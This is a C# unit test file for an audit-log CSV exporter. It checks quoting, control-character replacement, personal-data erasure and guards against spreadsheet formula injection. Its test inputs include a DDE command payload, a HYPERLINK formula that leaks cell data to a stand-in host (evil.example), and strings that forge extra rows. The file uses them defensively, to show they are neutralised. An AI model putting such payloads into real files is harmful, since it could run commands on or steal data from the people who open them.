using System.Text.Json;
using System.Text.RegularExpressions;
using Shouldly;
using SvcInfra.Application.Audit.Exports;
using SvcInfra.Application.Audit.Verification;
using SvcInfra.TestSupport;

namespace SvcInfra.UnitTests.Audit.Exports;

/// <summary>The output is read by <see cref="Rfc4180"/>, which shares no code with the writer.</summary>
public sealed partial class CsvExportTests
{
    [Fact]
    public async Task Entry_is_written_as_the_expected_row()
    {
        var text = await WriteAsync(FlatExportSample.Row());

        text.ShouldBe(
            "sequence,time,id,tenant_id,actor_kind,actor,on_behalf_of,session,action,target_type,target_id,outcome,reason,trace_id,tags,changes,"
            + "ip_address,user_agent,personal_changes,leaf\r\n"
            + "42,2026-02-03T04:05:06.123456Z,0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,0197a1b2-0000-7000-8000-000000000001,\"user\","
            + "0197a1b2-0000-7000-8000-000000000001,,"
            + "0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,\"tenants.rename_tenant\",\"tenant\",\"7\",success,,"
            + "\"4bf92f3577b34da6a3ce929d0e0e4736\",\"hipaa soc2\","
            + "\"{\"\"tenant\"\":{\"\"name\"\":{\"\"before\"\":\"\"a\"\",\"\"after\"\":\"\"b\"\"}}}\",\"192.0.2.7\",\"curl/8.5.0\",,"
            + "022a6979e6dab7aa5ae4c3e5e45f7e977112a7e63593820dbec1ec738a24f93c\r\n");
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("")]
    [InlineData("comma, \"quote\" and \"\" two")]
    [InlineData("Zürich 🎉 \u2028 and \u2029")]
    [InlineData("line\r\nline\nline\r")]
    [InlineData("=1+1")]
    [InlineData("'=1+1")]
    [InlineData("''")]
    [InlineData("x;'=1;;\"=1\t-1;")]
    [InlineData("\t\r\n\t=")]
    [InlineData("-5")]
    public async Task Text_reads_back_after_removing_the_guards(string text)
    {
        var entry = FlatExportSample.Entry with { TargetId = text, Reason = text, TargetType = text };

        var cells = await ReadAsync(FlatExportSample.Row(entry, JsonSerializer.Serialize(new { userAgent = text })));

        foreach (var column in (string[])["target_id", "reason", "target_type", "user_agent"])
        {
            Unguarded(cells[column]).ShouldBe(text);
        }
    }

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(1)")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")]
    public async Task Attack_formula_in_any_column_is_guarded(string formula)
    {
        var entry = FlatExportSample.Entry with
        {
            ActorKind = formula,
            Action = formula,
            TargetType = formula,
            TargetId = formula,
            Reason = formula,
            TraceId = formula,
            Tags = formula.Replace(',', ' '),
            Changes = formula,
        };

        var cells = await ReadAsync(FlatExportSample.Row(entry, JsonSerializer.Serialize(new { ipAddress = formula, userAgent = formula })));
        var altered = await ReadAsync(FlatExportSample.Row(payload: formula));

        string[] columns = ["actor_kind", "action", "target_type", "target_id", "reason", "trace_id", "changes", "ip_address", "user_agent"];
        foreach (var column in columns)
        {
            cells[column].ShouldBe("'" + Guarded(formula), column);
        }

        cells["tags"][0].ShouldBe('\'');
        altered["personal_changes"][0].ShouldBe('\'');
    }

    [Theory]
    [InlineData("x;=1+1")]
    [InlineData("x;\"=1+1\"")]
    [InlineData("x\t=1+1")]
    [InlineData("x\r\n=1+1")]
    [InlineData("x\n@SUM(1)")]
    public async Task Attack_formula_after_another_separator_is_guarded(string text)
    {
        var written = await WriteAsync(FlatExportSample.Row(FlatExportSample.Entry with { TargetId = text }, payload: null));

        written.Split([';', '\t', '\r', '\n']).ShouldAllBe(part => part.Length == 0 || !"=+-@\"".Contains(part[0]));
    }

    [Theory]
    [InlineData("x\r\n43,2026-01-01T00:00:00.000000Z,forged")]
    [InlineData("x\"\r\n43,\"forged\"")]
    [InlineData("\",\"success\",\"")]
    [InlineData("x\u0085y\u2028z\vw\f")]
    public async Task Attack_text_cannot_add_a_row_or_a_cell(string text)
    {
        var entry = FlatExportSample.Entry with { TargetId = text, Changes = text, Action = text };

        var row = FlatExportSample.Row(entry, JsonSerializer.Serialize(new { userAgent = text }));
        var rows = Rfc4180.Read(await WriteAsync(row, FlatExportSample.Row()));

        rows.Count.ShouldBe(3);
        rows.ShouldAllBe(cells => cells.Count == 20);
        rows[2][0].ShouldBe("42");
    }

    [Fact]
    public async Task Attack_control_characters_and_half_surrogate_pairs_are_replaced()
    {
        var entry = FlatExportSample.Entry with { TargetId = "a\0b\u001bc\u0085d\ud800e" };

        var cells = await ReadAsync(FlatExportSample.Row(entry, """{"userAgent":"a\u0000\ud800"}"""));

        cells["target_id"].ShouldBe("a\uFFFDb\uFFFDc\uFFFDd\uFFFDe");
        (cells["user_agent"], cells["personal_changes"]).ShouldBe(("", """{"userAgent":"a\u0000\ud800"}"""));
    }

    [Fact]
    public async Task Personal_part_has_its_own_columns_which_are_empty_after_erasure()
    {
        const string Payload = """{"ipAddress":"::1","changes":{"user":{"displayName":{"before":"Ada","after":"Countess"}}}}""";

        var present = await ReadAsync(FlatExportSample.Row(payload: Payload));
        var erased = await ReadAsync(FlatExportSample.Row(payload: null));

        (present["ip_address"], present["user_agent"]).ShouldBe(("::1", ""));
        present["personal_changes"].ShouldBe("""{"user":{"displayName":{"before":"Ada","after":"Countess"}}}""");
        (erased["ip_address"], erased["user_agent"], erased["personal_changes"]).ShouldBe(("", "", ""));
    }

    private static Task<string> WriteAsync(params SealedAuditEntry[] rows) =>
        FlatExportSample.WriteAsync(output => new CsvExportWriter(output), rows);

    private static async Task<Dictionary<string, string>> ReadAsync(SealedAuditEntry row)
    {
        var rows = Rfc4180.Read(await WriteAsync(row));
        rows.Count.ShouldBe(2);
        return rows[0].Zip(rows[1]).ToDictionary(pair => pair.First, pair => pair.Second);
    }

    /// <summary>Removes the guards as described in docs/audit/csv-and-cef.md.</summary>
    private static string Unguarded(string cell) => Guards().Replace(cell, "${separator}");

    /// <summary>The expected text after the first guard: a formula that begins with a separator has a second guard after it.</summary>
    private static string Guarded(string formula) => formula[0] is '\t' or '\r' or '\n' ? $"{formula[0]}'{formula[1..]}" : formula;

    [GeneratedRegex("(?<separator>^|[;\t\r\n])'", RegexOptions.ExplicitCapture)]
    private static partial Regex Guards();
}
